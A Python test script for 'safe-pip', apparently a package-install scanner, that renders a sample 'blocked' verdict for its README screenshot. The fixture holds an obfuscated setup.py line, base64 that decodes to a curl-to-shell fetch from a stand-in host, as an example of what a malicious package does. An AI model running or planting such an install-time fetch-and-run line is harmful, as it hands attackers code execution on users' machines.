"""The screen of a block that README shows, drawn by the code that draws it for a person.

``python -m tests.screens`` writes docs/block.svg anew and prints the text for README.
"""

from __future__ import annotations

import hashlib
import io
import re
from pathlib import Path

from rich.console import Console

from safe_pip.artifact import OriginKind
from safe_pip.evidence import Evidence, Location, Surface
from safe_pip.feature import Group
from safe_pip.policy.rules import Context, Decision, Thresholds, decide
from safe_pip.policy.settings import Policy
from safe_pip.terminal.panel import print_panel
from safe_pip.terminal.tally import Tally, summary_line
from safe_pip.verdict import Finding, RuleHit
from tests.policies import NOW, make_verdict

COLUMNS = 80
# Wide enough for the command that accepts the artifact, which is never wrapped.
PICTURE_COLUMNS = 124
COMMAND = "$ safe-pip install flask==3.1"
SVG = Path(__file__).parents[1] / "docs" / "block.svg"
# A picture that fetches letters would tell somebody that it was looked at.
_FONT_FACE = re.compile(r"\s*@font-face \{.*?\}", re.DOTALL)


def blocked() -> Decision:
    """A harmless look-alike of what a squat does in its setup.py."""
    finding = Finding(
        evidence=Evidence(
            feature="chain_decode_spawn_unasked",
            location=Location(path="setup.py", line=4),
            surface=Surface.SETUP,
            excerpt='os.system(base64.b64decode("Y3VybCBodHRwOi8vMTkyLjAuMi4xL3h8c2g="))',
            detail="decodes a command or program and starts it",
        ),
        group=Group.CODE,
        contribution=0.4,
    )
    verdict = make_verdict(
        score=0.997,
        kind="sdist",
        filename="demo-1.0.tar.gz",
        sha256=hashlib.sha256(b"demo").hexdigest(),
        findings=(finding,),
        rules=(
            RuleHit(
                name="install-decodes",
                says="decodes a hidden command and starts it while installing",
                path="setup.py",
                line=4,
                is_block=True,
            ),
        ),
    )
    return decide(
        verdict,
        Policy(),
        Context(origin=OriginKind.INDEX, required_by=("flask==3.1", "demo-tools", "demo")),
        thresholds=Thresholds(ask=0.9825, block=0.9972),
        now=NOW,
    )


def _draw(console: Console) -> None:
    print_panel(console, blocked(), says=str)
    tally = Tally(inspected=4, refused=1, waited_seconds=0.4)
    console.print(summary_line(tally), highlight=False)


def screen_text() -> str:
    console = Console(file=io.StringIO(), width=COLUMNS, highlight=False, markup=False, emoji=False)
    _draw(console)
    assert isinstance(console.file, io.StringIO)
    return console.file.getvalue()


def screen_svg() -> str:
    console = Console(
        file=io.StringIO(),
        width=PICTURE_COLUMNS,
        record=True,
        force_terminal=True,
        color_system="truecolor",
        markup=False,
        emoji=False,
        legacy_windows=False,
        no_color=False,
    )
    console.print(COMMAND, highlight=False)
    _draw(console)
    svg = console.export_svg(title="safe-pip", unique_id="safe-pip")
    return _FONT_FACE.sub("", svg)


if __name__ == "__main__":
    SVG.write_text(screen_svg(), encoding="utf-8")
    print(screen_text(), end="")
